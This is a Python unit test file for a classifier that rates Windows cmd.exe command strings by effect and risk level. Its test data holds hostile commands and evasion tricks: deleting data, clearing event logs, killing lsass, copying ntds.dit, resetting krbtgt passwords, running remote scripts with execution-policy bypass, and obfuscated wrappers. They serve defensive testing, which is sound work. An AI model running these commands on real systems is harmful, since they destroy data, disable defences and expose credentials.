"""What texts for cmd.exe are taken for."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.words import Effect, RiskLevel
from stage_e.risk.judgement import Judgement
from stage_e.risk.windows_texts import judge_cmd
from tests.unit.tools.plans import CATALOGUE

RISKS = list(RiskLevel)


def judged(text: str) -> Judgement:
    return judge_cmd(CATALOGUE.book, text)


READS = r"""
dir D:\logs
type D:\logs\app.log | findstr /i error
echo del /s /q D:\data
findstr "rd /s" D:\logs\a.log
tasklist /v /fo csv
wmic os get Caption,Version
wmic process where "name='w3wp.exe'" get processid
sc queryex Spooler
net start
net user
netsh advfirewall show allprofiles
schtasks /query /fo LIST
wevtutil qe System /c:20 /f:text
certutil -hashfile D:\x.exe SHA256
bcdedit /enum
vssadmin list shadows
format /?
if exist D:\app (echo yes) else (echo no)
for %i in (D:\logs\*.log) do type %i
C:\Windows\System32\ipconfig.exe /all
cmd /c "dir D:\logs & ver"
powershell -Command "Get-Service"
rem del D:\x
""".strip().splitlines()


@pytest.mark.parametrize("text", READS)
def test_what_only_looks_is_a_low_read(text: str) -> None:
    assert judged(text).effect.harmless
    assert judged(text).risk is RiskLevel.LOW


CHANGES = r"""
net start Spooler | write_reversible | medium
net stop Spooler | disruptive | high
sc stop WinDefend | disruptive | critical
taskkill /PID 1234 | disruptive | medium
taskkill /F /IM lsass.exe | disruptive | critical
echo a > D:\app\x.txt | disruptive | medium
echo a > D:\temp\x.txt | write_reversible | medium
copy D:\a D:\b | write_reversible | medium
del D:\data\x.txt | destructive | high
rd/s/q D:\data | destructive | critical
reg add HKLM\Software\X /v y /d 1 | disruptive | high
bcdedit /set nx AlwaysOff | disruptive | critical
wevtutil cl Application | destructive | critical
shutdown /r /t 0 | disruptive | high
shutdown /s | disruptive | critical
D:\tools\x.exe | unknown | high
""".strip().splitlines()


@pytest.mark.parametrize("line", CHANGES)
def test_a_change_has_its_effect_and_its_risk(line: str) -> None:
    text, effect, risk = line.split(" | ")

    assert (judged(text).effect, judged(text).risk) == (Effect(effect), RiskLevel(risk))


HIDDEN = r"""
set x=rd& %x% /s /q D:\data
%x:~0,3% D:\data
type D:\x.bat | cmd
mshta https://x.example/a.hta
rundll32 D:\x.dll,Run
wmic process call create calc.exe
runas /user:admin cmd
cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c dir
""".strip().splitlines()


@pytest.mark.parametrize("text", HIDDEN)
def test_code_that_the_text_does_not_show_is_critical(text: str) -> None:
    assert not judged(text).effect.harmless
    assert judged(text).risk is RiskLevel.CRITICAL


UNKNOWN = ["dir %x%", 'echo "a', "d\u0456r", "net use \\\\web-01\\c$", "assoc .txt=x", "for %i", "start", "", "do"]


@pytest.mark.parametrize("text", UNKNOWN)
def test_what_nobody_can_tell_is_no_read(text: str) -> None:
    assert not judged(text).effect.harmless
    assert RISKS.index(judged(text).risk) >= RISKS.index(RiskLevel.HIGH)


WRAPPERS = [
    "ver & {0}",
    "ver && {0}",
    "ver || {0}",
    "ver\n{0}",
    "({0})",
    "@{0}",
    'cmd /c "{0}"',
    "cmd.exe /d /s /c {0}",
    "%comspec% /c {0}",
    "start /b {0}",
    "call {0}",
    "if 1==1 {0}",
    "if exist D:\\x ({0}) else (ver)",
    "for %i in (1 2) do {0}",
    "for /f %i in ('{0}') do echo %i",
    "{0} > nul",
    "{0} & ver",
    'echo "a" & {0}',
]
EVIL = ["rd /s /q D:\\data", "d^el D:\\x", "format D:", "net stop Spooler", '"reg" delete HKLM\\Software\\X /f']


@given(st.sampled_from(EVIL), st.lists(st.sampled_from(WRAPPERS), max_size=3))
def test_no_wrapping_turns_a_change_into_a_read(evil: str, wrappers: list[str]) -> None:
    text = evil
    for wrapper in wrappers:
        text = wrapper.format(text)

    assert not judged(text).effect.harmless
    assert not judged(text.upper()).effect.harmless


@pytest.mark.parametrize(
    "text",
    [
        'findstr /C:"OS Name" D:\\a.txt',
        "findstr /i /c:error D:\\a.log",
        "net view \\\\fs-01",
        "net view \\\\fs-01 /all",
    ],
)
def test_a_value_that_is_glued_to_its_option_is_read(text: str) -> None:
    assert judged(text).effect.harmless
    assert judged(text).risk is RiskLevel.LOW


@pytest.mark.parametrize("text", ["findstr /g:D:\\x.txt y", "robocopy D:\\a E:\\b /log:D:\\x"])
def test_one_that_nobody_has_listed_is_not(text: str) -> None:
    assert not judged(text).effect.harmless


@pytest.mark.parametrize(
    ("text", "risk"),
    [
        ("reg query HKLM /f password /t REG_SZ /s", RiskLevel.MEDIUM),
        ("netsh advfirewall firewall add rule name=x dir=in action=allow", RiskLevel.CRITICAL),
        ("netsh advfirewall firewall add rule name=x dir=in action=allow localport=80 protocol=tcp", RiskLevel.HIGH),
        ("powershell -ep bypass -file \\\\10.0.0.9\\s\\a.ps1", RiskLevel.CRITICAL),
        ("powershell -file D:\\a.ps1", RiskLevel.HIGH),
        ('forfiles /p D:\\data /s /c "cmd /c del @file"', RiskLevel.CRITICAL),
        ('forfiles /p D:\\logs /s /d -30 /c "cmd /c del @file"', RiskLevel.HIGH),
        ("echo del x > D:\\t.bat & D:\\t.bat", RiskLevel.CRITICAL),
    ],
)
def test_the_reach_of_a_command_decides(text: str, risk: RiskLevel) -> None:
    assert judged(text).risk is risk


@pytest.mark.parametrize("text", ["quser /server:web-01", "query session", "help shutdown"])
def test_a_look_at_another_host_or_at_a_help_is_a_low_read(text: str) -> None:
    assert judged(text).effect.harmless
    assert judged(text).risk is RiskLevel.LOW


@pytest.mark.parametrize("text", ["route -f", "copy D:\\windows\\ntds\\ntds.dit E:\\x"])
def test_what_cuts_a_host_off_or_copies_its_passwords_is_critical(text: str) -> None:
    assert judged(text).risk is RiskLevel.CRITICAL


def test_a_program_on_another_machine_is_code_from_elsewhere() -> None:
    assert judged("\\\\10.0.0.9\\s\\x.exe").risk is RiskLevel.CRITICAL
    assert judged("D:\\tools\\x.exe").risk is RiskLevel.HIGH


def test_names_of_services_in_the_dns_may_begin_with_an_underscore() -> None:
    judgement = judged("nslookup -type=srv _ldap._tcp.dc._msdcs.acme.com")

    assert judgement.effect.harmless
    assert judgement.risk is RiskLevel.LOW


@pytest.mark.parametrize(
    ("text", "risk"),
    [
        ("net user Administrator Secret1", RiskLevel.CRITICAL),
        ("net user krbtgt Secret1 /domain", RiskLevel.CRITICAL),
        ("net user Administrator", RiskLevel.LOW),
        ("net user administrator /domain", RiskLevel.LOW),
    ],
)
def test_the_password_of_an_administrator_is_the_way_in(text: str, risk: RiskLevel) -> None:
    assert judged(text).risk is risk


@pytest.mark.parametrize(
    "text",
    [
        "gpresult /r /scope:computer",
        r"net time \\dc01",
        "certutil -ping",
        "certutil -store -enterprise NTAuth",
        "echo %COMPUTERNAME% %USERDNSDOMAIN%",
        "klist sessions",
        "tzutil /g",
        "tasklist | sort",
        "mode con",
        "dfsdiag /testdcs",
        "netdom query fsmo",
        "fltmc filters",
        "for %d in (C D E) do @fsutil volume diskfree %d:",
    ],
)
def test_more_of_what_administrators_look_at_is_low(text: str) -> None:
    assert judged(text).effect.harmless
    assert judged(text).risk is RiskLevel.LOW


@pytest.mark.parametrize(
    "text",
    [
        "net time \\\\dc01 /set /y",
        "certutil -store My 1234 D:\\out.cer extra",
        "certutil -addstore Root x.cer",
        "certutil -dump -split x.cer",
        "tzutil /s UTC & del /q D:\\data",
        "fltmc unload x",
        "handle -c 4 -p 99 -y",
        "netdom remove web01 /domain:acme.com",
        "dfsutil root remove \\\\acme.com\\data",
        "mode com1: baud=96",
        "echo %CMD%",
    ],
)
def test_what_the_same_programs_change_is_asked_about(text: str) -> None:
    assert not judged(text).effect.harmless
    assert judged(text).risk in {RiskLevel.HIGH, RiskLevel.CRITICAL}
